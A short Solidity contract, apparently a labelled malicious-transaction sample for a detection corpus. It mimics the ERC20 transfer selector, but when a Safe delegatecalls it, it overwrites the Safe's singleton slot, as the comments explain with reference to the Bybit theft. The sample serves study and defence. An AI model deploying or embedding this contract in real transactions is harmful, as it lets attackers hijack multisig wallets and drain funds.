// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

/// @title BAD TRANSACTION, class delegatecall to a singleton swapper: looks like a token transfer.
/// @dev Called with a Safe's operation 1 it runs in the Safe's own storage, where slot 0 is the address of the
/// Safe's code: the "receiver" becomes the Safe. Bybit lost 1.46 billion to this (2025-02-21). Harmless with
/// operation 0, where it can only write its own slot: that is its twin.
contract SafeSingletonSwap {
    address private _singleton;

    /// @dev Same selector as ERC20.transfer.
    function transfer(address newSingleton, uint256) external returns (bool) {
        _singleton = newSingleton;
        return true;
    }
}
